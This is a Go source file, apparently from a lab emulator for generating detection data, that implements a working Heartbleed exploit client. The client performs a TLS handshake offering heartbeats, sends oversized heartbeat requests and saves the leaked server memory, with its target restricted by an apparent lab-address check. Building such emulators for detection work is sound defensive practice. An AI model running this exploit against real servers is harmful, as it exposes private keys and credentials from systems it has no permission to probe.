package heartbleed

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"net"
	"os"
	"time"

	"detgen/emulator/internal/options"
	"detgen/lab/inside"
)

// timesMost is how often the client asks at most.
const timesMost = 1000

// Client is the main of the client. It asks --times times, each on a connection of its own in the middle of the
// handshake as the public tools do, and writes what came behind its own payload to --output. For each time it
// prints "leaked N" (bytes), "silent" when no answer came within --patience, or "unsupported" when the server does
// not have the extension.
func Client(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("heartbleed", flag.ContinueOnError)
	address := f.String("server", "", "HOST:PORT")
	name := f.String("name", "", "server name in the hello (RFC 6066); none when empty")
	times := f.Int("times", 1, "how often to ask, at most 1000")
	length := f.Int("length", 16384, "bytes that the request claims to hold, at most 65535")
	payload := f.Int("payload", 16, "bytes that it holds, at most 1000")
	interval := f.Duration("interval", 0, "time before each but the first, at most 1m")
	patience := f.Duration("patience", 2*time.Second, "how long to wait for an answer, at most 1m")
	output := f.String("output", os.DevNull, "file for what leaked")
	if err := options.Parse(f, args, "server"); err != nil {
		return err
	}
	for name, most := range map[string]int{"times": timesMost, "length": 1<<16 - 1, "payload": 1000} {
		if err := options.Within(f, name, 1, most); err != nil {
			return err
		}
	}
	for _, name := range []string{"interval", "patience"} {
		if err := options.WithinTime(f, name, 0, time.Minute); err != nil {
			return err
		}
	}
	if _, err := inside.LabAddress(*address); err != nil {
		return fmt.Errorf("--server: %w", err)
	}
	file, err := os.Create(*output)
	if err != nil {
		return err
	}
	defer file.Close()
	for i := range *times {
		if i > 0 {
			select {
			case <-time.After(*interval):
			case <-ctx.Done():
				return ctx.Err()
			}
		}
		leaked, err := ask(ctx, *address, *name, *length, *payload, *patience)
		switch {
		case errors.Is(err, errSilent):
			fmt.Println("silent")
		case errors.Is(err, errUnsupported):
			fmt.Println("unsupported")
		case err != nil:
			return err
		default:
			fmt.Println("leaked", len(leaked))
			if _, err := file.Write(leaked); err != nil {
				return err
			}
		}
	}
	return file.Close()
}

var (
	errSilent      = errors.New("no answer to the heartbeat")
	errUnsupported = errors.New("the server does not have the heartbeat extension")
)

// ask sends one heartbeat that holds payload bytes and claims length, and gives what came behind the payload.
func ask(ctx context.Context, address, name string, length, payload int, patience time.Duration) ([]byte, error) {
	c, err := (&net.Dialer{Timeout: time.Minute}).DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	if err := c.SetDeadline(time.Now().Add(time.Minute)); err != nil {
		return nil, err
	}
	if err := writeAll(c, handshake, appendMessage(nil, clientHello, hello(name))); err != nil {
		return nil, err
	}
	from := &records{r: c}
	if err := untilDone(from); err != nil {
		return nil, err
	}
	request := binary.BigEndian.AppendUint16([]byte{heartbeatRequest}, uint16(length))
	own := make([]byte, payload)
	rand.Read(own)
	if err := writeAll(c, heartbeat, append(request, own...)); err != nil {
		return nil, err
	}
	if err := c.SetReadDeadline(time.Now().Add(patience)); err != nil {
		return nil, err
	}
	var answer []byte
	for len(answer) < 3+length+paddingLeast {
		rec, err := from.read()
		var timeout net.Error
		if errors.As(err, &timeout) && timeout.Timeout() {
			return nil, errSilent
		}
		if err != nil {
			return nil, err
		}
		if rec.kind != heartbeat {
			return nil, fmt.Errorf("record of type %d instead of a heartbeat", rec.kind)
		}
		answer = append(answer, rec.payload...)
	}
	return answer[min(3+payload, 3+length) : 3+length], nil
}

// hello gives the body of a ClientHello that offers heartbeats.
func hello(name string) []byte {
	var extensions []byte
	if name != "" {
		entry := appendShort([]byte{0}, []byte(name)) // a host name
		extensions = appendExtension(extensions, serverName, appendShort(nil, entry))
	}
	extensions = appendExtension(extensions, pointFormats, []byte{1, 0})
	extensions = appendExtension(extensions, supportedGroups, []byte{0, 2, 0, secp256r1})
	extensions = appendExtension(extensions, signatureAlgorithms, []byte{0, 2, ecdsaSHA256 >> 8, ecdsaSHA256 & 0xff})
	extensions = appendExtension(extensions, heartbeatExtension, []byte{allowedToSend})
	b := binary.BigEndian.AppendUint16(nil, version)
	random := make([]byte, 32)
	rand.Read(random)
	b = append(append(b, random...), 0) // no session
	b = append(b, 0, 4, suite>>8, suite&0xff, emptyRenegotiation>>8, emptyRenegotiation&0xff)
	b = append(b, 1, 0) // no compression
	return appendShort(b, extensions)
}

// untilDone reads the server's hello and what follows, up to ServerHelloDone.
func untilDone(from *records) error {
	var m messages
	supported := false
	for {
		rec, err := from.read()
		if err != nil {
			return err
		}
		if rec.kind == alert {
			return errAlert
		}
		if rec.kind != handshake {
			return fmt.Errorf("record of type %d instead of a handshake", rec.kind)
		}
		m.pending = append(m.pending, rec.payload...)
		for {
			message, err := m.next()
			if err != nil {
				return err
			}
			if message == nil {
				break
			}
			switch message[0] {
			case serverHello:
				r := reader{rest: message[4:]}
				r.bytes(34)
				r.vector(1)
				r.bytes(3)
				mode := r.extensions()[heartbeatExtension]
				supported = !r.cut && len(mode) == 1 && mode[0] == allowedToSend
			case serverHelloDone:
				if !supported {
					return errUnsupported
				}
				return nil
			}
		}
	}
}
